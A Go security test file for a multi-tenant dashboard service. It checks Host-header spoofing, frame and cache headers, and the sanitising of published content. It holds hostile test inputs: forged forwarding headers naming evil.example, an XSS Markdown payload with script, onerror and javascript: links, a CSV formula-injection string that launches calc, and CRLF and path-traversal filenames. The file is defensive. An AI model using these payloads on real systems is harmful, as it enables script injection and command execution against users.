package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// raw sends bytes directly to the program and returns the answer.
func (r *realm) raw(t *testing.T, request string) reply {
	t.Helper()
	conn, err := net.DialTimeout("tcp", "127.0.0.1:"+r.port, 10*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := conn.SetDeadline(time.Now().Add(20 * time.Second)); err != nil {
		t.Fatal(err)
	}
	if _, err := io.WriteString(conn, strings.ReplaceAll(request, "\n", "\r\n")); err != nil {
		t.Fatal(err)
	}
	res, err := http.ReadResponse(bufio.NewReader(conn), nil)
	if err != nil {
		t.Fatalf("%v to\n%s", err, request)
	}
	defer res.Body.Close()
	body, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	return reply{res.StatusCode, res.Header, string(body)}
}

// hostNames calls the program by host names that are not its own, with the cookies of a
// session: such a name opens nothing that the cookie's own host would not, and no
// address in the answers contains a foreign name.
func (r *realm) hostNames(t *testing.T) {
	r.ada.get(r.at("acme", "/notes"))
	app, acme := r.cookies(t, r.ada, r.app), r.cookies(t, r.ada, r.at("acme", ""))
	if app["__Host-session"] == "" || acme["__Host-host"] == "" {
		t.Fatalf("cookies %v, %v", slices.Collect(maps.Keys(app)), slices.Collect(maps.Keys(acme)))
	}
	all := "__Host-session=" + app["__Host-session"] + "; __Host-host=" + acme["__Host-host"]
	port := strings.TrimPrefix(r.domain, "dash.localhost:")
	forwarded := "X-Forwarded-Host: evil.example\nX-Forwarded-Proto: gopher\nX-Forwarded-Port: 666\n" +
		"Forwarded: host=evil.example;proto=gopher\nX-Original-Host: evil.example\nX-Host: evil.example\n" +
		"X-Original-URL: /w/acme/settings/delete\nX-Rewrite-URL: /evil.example\nX-Forwarded-Prefix: //evil.example\n"
	own := []string{r.mcp, r.app, r.at("acme", "")} // from the configuration
	type attack struct {
		name, line, hosts string
		opens             bool // it names a host that the cookies are for
	}
	for _, a := range []attack{
		{"the app", "GET /account", "Host: app." + r.domain, true},
		{"acme", "GET /notes", "Host: acme." + r.domain, true},
		{"the app in capitals", "GET /account", "Host: APP.DASH.LocalHost:" + port, true},
		{"acme in capitals", "GET /notes", "Host: ACME." + strings.ToUpper(r.domain), true},
		{"the app at another port", "GET /account", "Host: app.dash.localhost:1", true}, // browsers send cookies to all ports
		{"a user before the app's label", "GET /account", "Host: evil@app." + r.domain, false},
		{"a stranger's host", "GET /account", "Host: evil.example", false},
		{"a stranger's host and a dashboard", "GET /notes", "Host: evil.example", false},
		{"a name that ends alike", "GET /account", "Host: evilapp." + r.domain, false},
		{"a name that begins alike", "GET /account", "Host: app." + r.domain + ".evil.example", false},
		{"the domain behind another", "GET /notes", "Host: acme." + r.domain + ".evil.example", false},
		{"below the app", "GET /account", "Host: x.app." + r.domain, false},
		{"below a workspace", "GET /notes", "Host: x.acme." + r.domain, false},
		{"the MCP host", "GET /account", "Host: " + r.domain, false},
		{"another workspace", "GET /notes", "Host: lair." + r.domain, false},
		{"another workspace without a name", "GET /notes", "Host: ." + r.domain, false},
		{"acme at another port", "GET /notes", "Host: acme.dash.localhost:1", false},
		{"acme without a port", "GET /notes", "Host: acme.dash.localhost", false},
		{"acme with the root's dot", "GET /notes", "Host: acme.dash.localhost.:" + port, false},
		{"an address", "GET /account", "Host: 127.0.0.1:" + port, false},
		{"an address in brackets", "GET /account", "Host: [::1]:" + port, false},
		{"an address with a zone", "GET /account", "Host: [fe80::1%25eth0]:" + port, false},
		{"brackets around the app", "GET /account", "Host: [app." + r.domain + "]", false},
		{"a user before the app", "GET /account", "Host: app." + r.domain + "@evil.example", false},
		{"a user that is the app's", "GET /account", "Host: evil.example@app." + r.domain, false},
		{"nothing", "GET /account", "Host:", false},
		{"two hosts", "GET /account", "Host: app." + r.domain + "\nHost: evil.example", false},
		{"two hosts, the other way round", "GET /account", "Host: evil.example\nHost: app." + r.domain, false},
		{"a list of hosts", "GET /account", "Host: app." + r.domain + ", evil.example", false},
		{"a tab in the host", "GET /account", "Host: app\t." + r.domain, false},
		{"a path in the host", "GET /account", "Host: app." + r.domain + "/evil", false},
		{"an absolute target elsewhere", "GET http://evil.example/account", "Host: app." + r.domain, false},
		{"an absolute target at lair", "GET http://lair." + r.domain + "/notes", "Host: acme." + r.domain, false},
		{"an absolute target and a foreign host", "GET http://app." + r.domain + "/account", "Host: evil.example", true},
		{"a target with a user", "GET http://evil.example@app." + r.domain + "/account", "Host: evil.example", true},
	} {
		got := r.raw(t, a.line+" HTTP/1.1\n"+a.hosts+"\nCookie: "+all+"\n"+forwarded+"Connection: close\n\n")
		opened := strings.Contains(got.body, "ada@example.com") || strings.Contains(got.body, canary)
		if opened != a.opens || got.status >= 500 {
			t.Errorf("%s: %d, opened %v", a.name, got.status, opened)
		}
		if leak := got.visible(); strings.Contains(leak, "evil.example") || strings.Contains(leak, "gopher") {
			t.Errorf("%s: the answer names a foreign host: %s", a.name, leak)
		}
		if to := got.header.Get("Location"); to != "" &&
			!slices.ContainsFunc(own, func(origin string) bool { return strings.HasPrefix(to, origin+"/") }) &&
			!strings.HasPrefix(to, "/sign-in?") {
			t.Errorf("%s: leads to %s", a.name, to)
		}
	}

	// Addresses that others will open are made from the configuration.
	for _, host := range []string{"evil.example", r.domain, "app." + r.domain + ".evil.example", "x.acme." + r.domain} {
		for line, want := range map[string]string{
			"POST /mcp":  `Www-Authenticate: Bearer resource_metadata="` + r.mcp + `/.well-known/oauth-protected-resource"`,
			"POST /mcp/": `Www-Authenticate: Bearer resource_metadata="` + r.mcp + `/.well-known/oauth-protected-resource/mcp/"`,
			"GET /.well-known/oauth-protected-resource":   `"resource":"` + r.mcp + `/mcp"`,
			"GET /.well-known/oauth-authorization-server": `"issuer":"` + r.mcp + `"`,
		} {
			method, _, _ := strings.Cut(line, " ")
			body := map[string]string{"POST": "Content-Length: 2\n"}[method]
			got := r.raw(t, line+" HTTP/1.1\nHost: "+host+"\n"+forwarded+body+"Connection: close\n\n"+map[string]string{"POST": "{}"}[method])
			if seen := strings.ReplaceAll(got.visible(), "\r", ""); !strings.Contains(seen, want) || strings.Contains(seen, "evil.example") {
				t.Errorf("%s of %s: %s", line, host, seen)
			}
		}
	}
	args := `{"path":"notes","body":"# Notes\n\nkept by ` + canary + `"}`
	body := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"publish_dashboard","arguments":` + args + `}}`
	got := r.raw(t, "POST /mcp HTTP/1.1\nHost: evil.example\n"+forwarded+"Authorization: Bearer "+r.token+
		"\nContent-Length: "+fmt.Sprint(len(body))+"\nConnection: close\n\n"+body)
	if !strings.Contains(got.body, r.at("acme", "/notes")) || strings.Contains(got.body, "evil.example") {
		t.Errorf("a published dashboard is at %s", got.body)
	}

	// A session of one workspace's host is not valid at another, nor at the app; and the
	// service's own names cannot be workspaces.
	r.mallory.get(r.at("lair", "/x"))
	lair := r.cookies(t, r.mallory, r.at("lair", ""))
	for _, label := range []string{"acme", "app"} {
		for cookie := range lair {
			for _, name := range []string{cookie, "__Host-session", "__Host-host"} {
				got := r.once(t, "GET", r.at(label, "/account"), map[string]string{name: lair[cookie]}, nil)
				if got.status != http.StatusFound || strings.Contains(got.body, "mallory") {
					t.Errorf("%s of lair, as %s at %s: %d", cookie, name, label, got.status)
				}
			}
		}
	}
	for _, slug := range []string{
		"app", "www", "mcp", "api", "auth", "login", "localhost", "App", "a.b",
		"-a", "a-", "ä", "xn--", "a_b", "", strings.Repeat("a", 64), "acme",
	} {
		before := r.state(t)
		r.mallory.get(r.app + "/workspaces/new")
		if got := r.mallory.submit("/workspaces", url.Values{"name": {"Mine"}, "slug": {slug}}); slug == "" || slug == "xn--" {
			continue // one is derived from the name; and xn-- ends in a hyphen
		} else if got.status != http.StatusUnprocessableEntity {
			t.Errorf("workspace %s: %d", slug, got.status)
		}
		r.unchanged(t, "workspace "+slug, before)
	}
}

// framesAndCaches visits everything that ada can open, and provokes error answers: no
// answer can be framed, and none of hers can be stored in a shared cache.
func (r *realm) framesAndCaches(t *testing.T) {
	check := func(what string, status int, header http.Header, body string) {
		t.Helper()
		if policy := header.Get("Content-Security-Policy"); !strings.Contains(policy, "frame-ancestors 'none'") ||
			header.Get("X-Frame-Options") != "DENY" || header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("%s: %d without protection: %v", what, status, header)
		}
		caching := header.Get("Cache-Control")
		public := strings.HasPrefix(caching, "public, max-age=")
		if !strings.Contains(caching, "no-store") && !strings.HasPrefix(caching, "private, no-cache") && !public {
			t.Errorf("%s: %d, Cache-Control: %s", what, status, caching)
		}
		if public &&
			(len(header["Set-Cookie"]) > 0 || strings.Contains(body, "ada@") ||
				strings.Contains(body, canary) || strings.HasPrefix(header.Get("Content-Type"), "text/html")) {
			t.Errorf("%s: anybody may keep it", what)
		}
	}
	queue := []string{
		r.app + "/", r.app + "/connect", r.app + "/workspaces/new",
		r.at("acme", "/notes"), r.at("acme", "/data"), r.at("acme", "/data/data.csv"),
	}
	seen := map[string]bool{}
	for len(queue) > 0 {
		address := queue[0]
		queue = queue[1:]
		if seen[address] {
			continue
		}
		seen[address] = true
		p := r.ada.get(address)
		check(address, p.status, p.header, p.text)
		if !strings.HasPrefix(p.header.Get("Content-Type"), "text/html") {
			continue
		}
		doc, err := html.Parse(strings.NewReader(p.text))
		if err != nil {
			t.Fatal(err)
		}
		for n := range doc.Descendants() {
			link := attr(n, "href")
			if link == "" {
				link = attr(n, "src")
			}
			to, err := p.url.Parse(link)
			if err != nil {
				t.Fatal(err)
			}
			to.Fragment = ""
			if link != "" && strings.HasSuffix(to.Host, r.domain) && to.Path != "/sign-in" {
				queue = append(queue, to.String())
			}
		}
	}
	if len(seen) < 25 {
		t.Errorf("only %d addresses were found: %v", len(seen), slices.Sorted(maps.Keys(seen)))
	}
	consent := r.request(t, r.ada, r.register(t))
	check("consent", consent.status, consent.header, consent.text)

	statuses := map[int]bool{}
	long := strings.Repeat("x", 70_000)
	for _, m := range []struct{ method, address, body, site string }{
		{"GET", r.app + "/nothing", "", ""},
		{"GET", r.app + "/w/lair/", "", ""},
		{"GET", r.app + "/visit", "", ""},
		{"GET", r.app + "/sign-in/callback", "", ""},
		{"GET", r.app + "/consent?request=x", "", ""},
		{"GET", r.app + "/invitations?token=x", "", ""},
		{"GET", r.app + "/sign-in", "", ""},
		{"GET", r.app + "/w/acme", "", ""},
		{"DELETE", r.app + "/", "", ""},
		{"GET", r.app + "/sign-out", "", ""},
		{"GET", r.app + "/theme", "", ""},
		{"PROPFIND", r.app + "/nothing", "", ""},
		{"POST", r.app + "/theme", "", "cross-site"},
		{"POST", r.app + "/sign-out", "", "cross-site"},
		{"POST", r.app + "/theme", long, "same-origin"},
		{"POST", r.app + "/account/timezone", "timezone=Mars", "same-origin"},
		{"POST", r.app + "/account/timezone", "timezone=%zz", "same-origin"},
		{"POST", r.app + "/consent", "request=x&decision=allow", "same-origin"},
		{"POST", r.app + "/w/acme/uploads", "x", "same-origin"},
		{"POST", r.app + "/w/acme/settings/delete", "slug=x", "same-origin"},
		{"GET", r.at("acme", "/nothing"), "", ""},
		{"GET", r.at("acme", "/notes?version=x"), "", ""},
		{"GET", r.at("nobody", "/"), "", ""},
		{"GET", r.at("acme", "/.session"), "", ""},
		{"GET", r.at("acme", "/.session?ticket=x"), "", ""},
		{"POST", r.at("acme", "/notes"), "", ""},
		{"PUT", r.at("acme", "/"), "", ""},
		{"GET", r.at("acme", "/"), "", ""},
		{"GET", r.at("acme", "/notes"), "", "same-origin"},
		{"GET", r.mcp + "/", "", ""},
		{"GET", r.mcp + "/mcp", "", ""},
		{"POST", r.mcp + "/mcp", "{}", ""},
		{"GET", r.mcp + "/authorize", "", ""},
		{"GET", r.mcp + "/authorize?client_id=00000000-0000-0000-0000-000000000000", "", ""},
		{"POST", r.mcp + "/authorize", "", ""},
		{"GET", r.mcp + "/healthz", "", ""},
		{"POST", r.mcp + "/token", "", ""},
		{"POST", r.mcp + "/token", long, ""},
		{"POST", r.mcp + "/register", "{}", ""},
		{"GET", r.mcp + "/.well-known/oauth-protected-resource", "", ""},
		{"OPTIONS", r.mcp + "/token", "", ""},
		{"GET", r.at("a.b", "/"), "", ""},
	} {
		header := []string{"Content-Type", "application/x-www-form-urlencoded"}
		if m.site != "" {
			header = append(header, "Sec-Fetch-Site", m.site)
		}
		u, err := url.Parse(m.address)
		if err != nil {
			t.Fatal(err)
		}
		for _, cookies := range []map[string]string{r.cookies(t, r.bob, u.Scheme+"://"+u.Host), nil} {
			if m.address == r.app+"/sign-out" && m.method == "POST" && m.site != "cross-site" {
				continue
			}
			got := r.once(t, m.method, m.address, cookies, strings.NewReader(m.body), header...)
			check(m.method+" "+m.address, got.status, got.header, got.body)
			statuses[got.status] = true
		}
	}
	for _, status := range []int{200, 204, 302, 303, 400, 401, 403, 404, 405, 413, 422} {
		if !statuses[status] {
			t.Errorf("no answer was %d: is it still made?", status)
		}
	}
	// Caches must distinguish compressed and uncompressed answers.
	cookies := r.cookies(t, r.ada, r.at("acme", ""))
	plain := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "identity")
	packed := r.once(t, "GET", r.at("acme", "/notes"), cookies, nil, "Accept-Encoding", "gzip")
	if plain.header.Get("Vary") != "Accept-Encoding" || packed.header.Get("Vary") != "Accept-Encoding" ||
		plain.header.Get("ETag") == packed.header.Get("ETag") {
		t.Errorf("compressed or not: %v\n%v", plain.header, packed.header)
	}
	// The ETag of a page that one person can see reveals nothing to others.
	r.sam.get(r.at("acme", "/notes"))
	for who, b := range map[string]*browser{"sam": r.sam, "mallory": r.mallory} {
		b.get(r.at("acme", "/notes"))
		for _, tag := range []string{plain.header.Get("ETag"), packed.header.Get("ETag"), "*"} {
			if got := r.once(t, "GET", r.at("acme", "/notes"), r.cookies(t, b, r.at("acme", "")),
				nil, "If-None-Match", tag); got.status != http.StatusNotFound {
				t.Errorf("%s asks whether the page is still %s: %d", who, tag, got.status)
			}
		}
	}
}

// hostile is Markdown that tries to run scripts in the workspace's origin.
const hostile = `# Ran <script>document.title="ran"</script>

<svg onload="document.title='ran'"><script>document.title='ran'</script></svg>
<img src=x onerror="document.title='ran'"> <iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>
<form action="https://evil.example/"><input name=password></form> <base href="https://evil.example/"> ` +
	`<meta http-equiv=refresh content="0;url=https://evil.example/">
<style>body{background:url(https://evil.example/)}</style> <link rel=stylesheet href=https://evil.example/>

[a](javascript:document.title='ran') [b](JaVaScRiPt&colon;document.title='ran') ` +
	`[c](data:text/html,<script>document.title='ran'</script>) [d](vbscript:x)
[e]( java	script:document.title='ran') <javascript:document.title='ran'> [f][g]

![h](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='document.title="ran"'>` +
	`<script>parent.document.title='ran'</script></svg>)
![i](https://evil.example/pixel.gif) ![j](//evil.example/pixel.gif)

[g]: javascript:document.title='ran'
`

// downloads publishes files that pretend to be pages, and pages that pretend to be programs.
func (r *realm) downloads(t *testing.T) {
	r.publish(t, "hostile", hostile)
	page := r.ada.get(r.at("acme", "/hostile"))
	doc, err := html.Parse(strings.NewReader(page.text))
	if err != nil || page.status != http.StatusOK {
		t.Fatal(page.status, err)
	}
	for n := range doc.Descendants() {
		switch n.Data {
		case "iframe", "object", "embed", "base", "img", "image", "link":
			if n.Type == html.ElementNode && attr(n, "rel") != "icon" && attr(n, "rel") != "canonical" {
				t.Errorf("hostile: <%s %v>", n.Data, n.Attr)
			}
		case "script":
			if n.Type == html.ElementNode && (n.FirstChild != nil || !strings.HasPrefix(attr(n, "src"), "/assets/")) {
				t.Errorf("hostile: a script of its own: %v", n.Attr)
			}
		case "meta":
			if strings.EqualFold(attr(n, "http-equiv"), "refresh") {
				t.Error("hostile: the page goes on by itself")
			}
		}
		for _, a := range n.Attr {
			scheme, _, _ := strings.Cut(strings.ToLower(strings.TrimSpace(a.Val)), ":")
			if strings.HasPrefix(a.Key, "on") || a.Key == "srcdoc" || a.Key == "style" || n.Data != "link" &&
				(a.Key == "href" || a.Key == "src" || a.Key == "action") && slices.Contains([]string{"javascript", "data", "vbscript"}, scheme) {
				t.Errorf("hostile: <%s %s=%.60q>", n.Data, a.Key, a.Val)
			}
		}
	}

	for _, begins := range []string{
		"<html>", "\ufeff<html>", "\n\t <HTML>", "<!-- a -->\n<script>", "<!DOCTYPE html>",
		"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", "<svg>",
		"\x00<script>", "<a,b\n", "%PDF-1.4,b\n", "=cmd|' /C calc'!A0,b\n",
	} {
		before := r.state(t)
		args, err := json.Marshal(map[string]any{"path": "begins/data.csv", "body": begins + "<script>document.title='ran'</script>,1\n"})
		if err != nil {
			t.Fatal(err)
		}
		if _, refused := r.call(t, r.token, "publish_dashboard", string(args)).text(t); refused {
			r.unchanged(t, "publishing "+begins, before, "oauth_grant") // which has the time of its last use
			continue
		}
		file := r.ada.get(r.at("acme", "/begins/data.csv"))
		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" ||
			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" {
			t.Errorf("a file that begins with %q: %d %v", begins, file.status, file.header)
		}
	}
	for _, path := range []string{"/data/data.csv", "/data/data.csv?x=.html", "/data/data.csv?panel=0&format=csv"} {
		file := r.ada.get(r.at("acme", path))
		if file.status == http.StatusNotFound {
			continue
		}
		if file.header.Get("Content-Type") != "text/csv; charset=utf-8" || file.header.Get("X-Content-Type-Options") != "nosniff" ||
			file.header.Get("Content-Disposition") != "attachment; filename=data.csv" ||
			!strings.Contains(file.header.Get("Content-Security-Policy"), "sandbox;") {
			t.Errorf("%s: %d %v", path, file.status, file.header)
		}
	}
	for _, name := range []string{
		"x\r\nSet-Cookie: a=b.csv", "x\nX.csv", "x\".csv", "x;filename=y.html.csv", "x%0d%0aA:b.csv",
		"x\x00.csv", "x\u2028.csv", "x\u202efdp.csv", "../x.csv", "..\\x.csv", "a/b/x.csv", "x.html.csv/",
		"x.svg", "x.html", "X.CSV", ".csv", "x.csv ", "xé.csv", strings.Repeat("x", 300) + ".csv",
	} {
		before := r.state(t)
		args, err := json.Marshal(map[string]any{"path": "named/" + name, "body": "a,b\n1,2\n"})
		if err != nil {
			t.Fatal(err)
		}
		text, refused := r.call(t, r.token, "publish_dashboard", string(args)).text(t)
		if refused {
			r.unchanged(t, "publishing as "+name, before, "oauth_grant")
			continue
		}
		got := r.ada.get(r.at("acme", "/named/"+url.PathEscape(name)))
		kind, _, _ := strings.Cut(got.header.Get("Content-Type"), ";")
		if got.header.Get("A") != "" || got.header.Get("X") != "" ||
			kind != "text/html" && !strings.HasPrefix(got.header.Get("Content-Disposition"), "attachment; filename=") {
			t.Errorf("published as %q: %s\n%d %v", name, text, got.status, got.header)
		}
	}
}
